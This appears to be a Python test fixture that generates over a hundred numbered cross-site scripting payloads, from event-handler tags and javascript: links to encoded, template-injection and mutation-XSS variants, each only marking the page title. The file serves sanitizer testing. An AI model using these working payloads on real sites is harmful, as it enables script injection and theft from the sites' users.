"""A corpus of texts that run a script where a page takes text for markup. Number n leaves ",n," in the page's title."""

RUN = "document.documentElement.title+=',{n},'"
LOADS = (
    "img src=x onerror={run}", "svg onload={run}", "svg><animate attributeName=x dur=1s onbegin={run}",
    "svg><set attributeName=x onbegin={run}", "input autofocus onfocus={run}", "details open ontoggle={run}",
    "video src=x onerror={run}", "audio src=x onerror={run}", "object data=x onerror={run}", "iframe onload={run}",
    "link rel=stylesheet href=data:text/css, onload={run}", "script src=data:, onload={run}",
    "image src=x onerror={run}",
    "video><source onerror={run}", "body onpageshow={run}", "svg><script>{run}</script",
    "embed src=data:, onload={run}",
    "img srcset=x onerror={run}", "picture><img src=x onerror={run}", "math><mtext><img src=x onerror={run}",
)  # fmt: skip
SPELT = (
    "<{load}>",
    "\"'></title></style></script>--><{load}>",
    "<p title='`\"'><{load}>",
    "words before &lt; <{load}> and after",
)
OTHERS = (
    "<script>{run}</script>", "<ScRiPt >{run}</sCrIpT >", "<script\n>{run}</script\n>", "<script/x>{run}</script>",
    "<script>/*</title>*/{run}//</script>", "<script src='data:text/javascript,{run}'></script>",
    "<script type=module>{run}</script>", "<iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.{run}\"></iframe>",
    "<svg><a xlink:href=\"javascript:{run}\"><text>x</text></a></svg>",
    "<a href=\"javascript:{run}\">x</a>", "[x](javascript:{run})", "![x](x\" onerror=\"{run})",
    "`<script>{run}</script>`",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "\\u003cscript\\u003e{run}",
    "{{{{ 7 * 191 }}}}{{% raw %}}", "${{7*191}}#{{7*191}}", "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>parent.{run}</script>\">",
    "<form><button formaction=\"javascript:{run}\">x</button></form>", "<img src=\"x` `<script>{run}</script>\"` `>",
    "<style>*{{background:url(javascript:{run})}}</style>", "<template><script>{run}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={run}>", "<div onwheel={run} onclick={run}>x</div>",
    "<img src=x onerror={run}//", "\x00<script>{run}</script>",
    "<textarea><img title=\"</textarea><img src=x onerror={run}>\">",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, more than a hundred, each with its number."""
    loads = [spelling.replace("{load}", load) for spelling in SPELT for load in LOADS]
    made = []
    for number, text in enumerate([*loads, *OTHERS]):
        made.append(text.replace("{run}", RUN.replace("{n}", str(number))).replace("{{", "{").replace("}}", "}"))
    return made
